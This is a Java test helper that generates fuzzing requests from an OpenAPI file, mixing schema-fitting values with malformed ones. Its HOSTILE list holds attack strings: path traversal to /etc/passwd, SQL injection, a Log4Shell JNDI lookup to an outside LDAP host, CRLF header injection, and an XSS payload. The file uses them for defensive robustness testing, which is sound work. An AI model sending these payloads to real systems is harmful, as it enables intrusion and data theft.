package org.xuhao.web;

import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;

/** Draws requests from a seed: some that fit the OpenAPI file, and values that no page sends. */
final class DrawnRequests {

  /** Stands for a real person's number: it may be sent, and may stand in no log. */
  static final String ID = "370214195001011234";

  /** Texts that have broken other programs. */
  static final List<String> HOSTILE =
      List.of(
          "",
          " ",
          "\u0000",
          "\u001b[2J\u001b]0;owned\u0007",
          "a\r\nset-cookie: xuhao-session=0\r\n\r\n<script>",
          "\u202e\u2066\ufeff",
          "\ud83d\ude00".repeat(40),
          "\ud800",
          "../../../../etc/passwd",
          "' OR '1'='1' --",
          "${jndi:ldap://203.0.113.9/x}",
          "%n%s%x{}{}{}",
          "<img src=x onerror=alert(1)>",
          "A".repeat(3_000),
          "9".repeat(400),
          "-1",
          "1e999",
          "NaN",
          "null",
          ID);

  /** Values of every JSON type, and such as no number holds. */
  private static final List<String> ODD =
      List.of(
          "null",
          "true",
          "-1",
          "0.1",
          "1e400",
          "123456789012345678901234567890",
          "[]",
          "{}",
          "[[[[[[[[1]]]]]]]]",
          "{\"a\":{\"b\":{\"c\":[]}}}",
          "\"\\u0000\"",
          "\"\\ud800\"");

  private final ApiFile file;
  private final Random random;

  DrawnRequests(ApiFile file, long seed) {
    this.file = file;
    random = new Random(seed);
  }

  /** The path of an operation with a value for each parameter in it. */
  String path(ApiFile.Operation operation) {
    String path = operation.path();
    for (ApiFile.Parameter one : operation.parameters())
      if (one.in().equals("path")) path = with(path, one.name(), escaped(fit(one)));
    return path;
  }

  /** The same with {@code value} in the place of every parameter, escaped as browsers do. */
  static String path(ApiFile.Operation operation, String value) {
    return operation.path().replaceAll("\\{[a-zA-Z]+}", quoted(escaped(value)));
  }

  private static String with(String path, String name, String value) {
    return path.replace("{" + name + "}", value);
  }

  private static String quoted(String text) {
    return java.util.regex.Matcher.quoteReplacement(text);
  }

  private static String escaped(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
  }

  private String fit(ApiFile.Parameter parameter) {
    return switch (parameter.name()) {
      case "window" -> pick(List.of("1", "2", "3", "5", "12", "77"));
      case "number" -> pick(List.of("A001", "A002", "A003", "B001", "ZZ999"));
      case "service" -> pick(List.of("RS", "YB", "NO"));
      case "date" -> pick(List.of("2026-01-05", "2026-02-30", "0000-00-00"));
      default -> String.valueOf(value(parameter.schema(), 0));
    };
  }

  /** A value that fits {@code schema}, or nearly. */
  Object value(JsonObject given, int depth) {
    JsonObject schema = file.resolved(given);
    JsonArray choices = schema.getJsonArray("enum");
    if (choices != null) return choices.getValue(random.nextInt(choices.size()));
    for (String word : List.of("oneOf", "anyOf", "allOf"))
      if (schema.getJsonArray(word) != null && schema.getJsonObject("properties") == null)
        return value(schema.getJsonArray(word).getJsonObject(0), depth + 1);
    return switch (schema.getString("type", "object")) {
      case "integer", "number" -> number(schema);
      case "boolean" -> random.nextBoolean();
      case "array" -> array(schema, depth);
      case "object" -> object(schema, depth);
      default -> text(schema);
    };
  }

  private long number(JsonObject schema) {
    long least = schema.getLong("minimum", 0L);
    long most = schema.getLong("maximum", least + 20);
    return least + (long) (random.nextDouble() * (most - least + 1));
  }

  private JsonArray array(JsonObject schema, int depth) {
    var array = new JsonArray();
    int length = Math.max(schema.getInteger("minItems", 0), random.nextInt(4));
    for (int i = 0; i < Math.min(length, schema.getInteger("maxItems", 4)); i++)
      array.add(value(schema.getJsonObject("items", new JsonObject()), depth + 1));
    return array;
  }

  private JsonObject object(JsonObject schema, int depth) {
    var object = new JsonObject();
    JsonObject properties = schema.getJsonObject("properties", new JsonObject());
    JsonArray needed = schema.getJsonArray("required", new JsonArray());
    for (String name : properties.fieldNames())
      if (depth < 5 && (needed.contains(name) || random.nextInt(3) == 0))
        object.put(name, value(properties.getJsonObject(name), depth + 1));
    return object;
  }

  private String text(JsonObject schema) {
    String pattern = schema.getString("pattern", "");
    if (pattern.contains("[A-Z]{1,2}")) return pick(List.of("A001", "A002", "B003", "ZZ999"));
    if (pattern.contains("T[0-9]") || "date-time".equals(schema.getString("format")))
      return pick(
          List.of(
              "2027-01-05T09:00:00Z",
              "2026-13-20T25:00:00Z",
              "9999-12-31T23:59:59+18:00",
              "0000-01-01T00:00:00Z",
              "2027-01-05T09:00:00+19:00"));
    if (pattern.contains("[0-9]{4}-") || "date".equals(schema.getString("format")))
      return pick(List.of("2027-01-05", "2026-02-30", "0000-01-01", "9999-12-31", "2026-13-41"));
    if (pattern.contains("[0-9]{6}")) return "123456";
    String text = pick(List.of("RS", "YB", "x", "c12", "赶飞机", ID, "two words"));
    return text.length() > schema.getInteger("maxLength", 100) ? "x" : text;
  }

  /** One property of {@code body} is something else now, or there is one more. */
  String broken(JsonObject body) {
    var names = List.copyOf(body.fieldNames());
    String name = names.isEmpty() || random.nextInt(6) == 0 ? "more" : pick(names);
    boolean text = random.nextBoolean();
    if (text) return body.copy().put(name, pick(HOSTILE)).encode();
    String mark = "\"@@@\"";
    return body.copy().put(name, "@@@").encode().replace(mark, pick(ODD));
  }

  <T> T pick(List<T> all) {
    return all.get(random.nextInt(all.size()));
  }
}
